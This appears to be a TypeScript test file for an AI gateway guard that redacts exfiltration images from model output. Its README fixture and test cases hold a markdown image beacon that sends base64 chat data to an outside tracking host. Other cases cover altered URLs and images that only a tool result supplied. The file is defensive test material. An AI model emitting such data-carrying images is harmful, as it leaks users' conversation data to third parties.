// callerEchoes: 'pass' leaves the caller's own no-data images and links alone when the model repeats them,
// whole and streamed; anything carrying data, sent by a tool or document, or changed on the way is still removed.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { pino } from 'pino';
import type { GuardContext } from '../../../core/context.js';
import type { Guard } from '../../../core/guard.js';
import { GuardPipeline } from '../../../core/pipeline.js';
import { OutputWindow } from '../../../core/stream-window.js';
import { buildGuard } from '../../registry.js';

const log = pino({ level: 'silent' });
const env = { log, dataDir: '/nonexistent', secrets: [] as string[] };
const LOGO = 'https://sindre.example/assets/thanks/logo.svg';
const DATA = 'c2VjcmV0IGRhdGEgZnJvbSB0aGUgY2hhdCBoaXN0b3J5';
const README = `# pkg\n\n<img src="${LOGO}" width="80">\n\n![shot](https://cdn.pkg.example/screen.png)\n\n![beacon](https://px.example/t.gif?d=${DATA})\n`;

function guard(callerEchoes: 'pass' | 'judge' = 'pass'): Guard {
  return buildGuard(
    { use: 'exfiltration', options: { callerEchoes } },
    'response',
    env,
    'guards.response[0]',
  );
}

function context(messages: Record<string, unknown>[]): GuardContext {
  return {
    requestId: 'r',
    route: 'chat',
    principal: { id: 'p', kind: 'anonymous', scopes: [] },
    model: 'm',
    body: { messages },
    state: new Map(),
    log,
  };
}

const asked = (doc: string) => [
  { role: 'system', content: 'You summarise READMEs.' },
  { role: 'user', content: `Summarise this README:\n\n${doc}` },
];

/** The text released to the client at chunk size `size` (0: one non-streamed answer). */
async function released(text: string, size: number, g: Guard, messages: Record<string, unknown>[]) {
  const pipeline = new GuardPipeline([g], { defaultDeadlineMs: 5000, log });
  const ctx = context(messages);
  const w = new OutputWindow((view) => {
    ctx.output = view;
    return pipeline.run('response', ctx);
  }, pipeline.holdBack);
  let out = '';
  for (let i = 0; i < text.length && size > 0; i += size)
    out += (await w.push(text.slice(i, i + size))).release;
  return out + (await w.finish(size === 0 ? text : '')).release;
}

const SIZES = [0, 1, 7, 16];

describe("exfiltration guard: the caller's own images echoed back", () => {
  it("passes the caller's no-data logo and screenshot under callerEchoes: pass, whole and streamed", async () => {
    const answer = `It thanks a sponsor <img src="${LOGO}" width="80"> and shows ![shot](https://cdn.pkg.example/screen.png) here.`;
    for (const size of SIZES)
      assert.equal(await released(answer, size, guard(), asked(README)), answer, `size ${size}`);
  });

  it('still removes the echo by default (judge)', async () => {
    const answer = `Logo: <img src="${LOGO}">`;
    for (const size of SIZES) {
      const out = await released(answer, size, guard('judge'), asked(README));
      assert.equal(out, 'Logo: [REDACTED:off-list-image]', `size ${size}`);
    }
  });

  const caught: [string, string, Record<string, unknown>[]][] = [
    ["the caller's URL cut short", '![b](https://cdn.pkg.example/scre)', asked(README)],
    ['a data-carrying URL the caller sent', `![b](https://px.example/t.gif?d=${DATA})`, asked(README)],
    [
      'a path on the same host the caller never sent',
      '![b](https://cdn.pkg.example/other.png)',
      asked(README),
    ],
    [
      "the caller's URL with a query added",
      '![b](https://cdn.pkg.example/screen.png?u=alice)',
      asked(README),
    ],
    [
      'an image only a tool result held',
      '![b](https://cdn.pkg.example/screen.png)',
      [
        { role: 'user', content: 'Read the README' },
        {
          role: 'assistant',
          content: null,
          tool_calls: [{ id: 't', type: 'function', function: { name: 'read', arguments: '{}' } }],
        },
        { role: 'tool', tool_call_id: 't', content: README },
      ],
    ],
    [
      'a reference use whose definition names the URL',
      '![b][s]\n\n[s]: https://cdn.pkg.example/other.png\n',
      asked(README),
    ],
  ];
  for (const [name, answer, messages] of caught) {
    it(`still removes ${name}`, async () => {
      for (const size of SIZES) {
        const out = await released(answer, size, guard(), messages);
        assert.ok(!out.includes('example/'), `${name} survives at size ${size}: ${out}`);
        assert.match(out, /\[REDACTED:[a-z-]+\]/);
      }
    });
  }
});
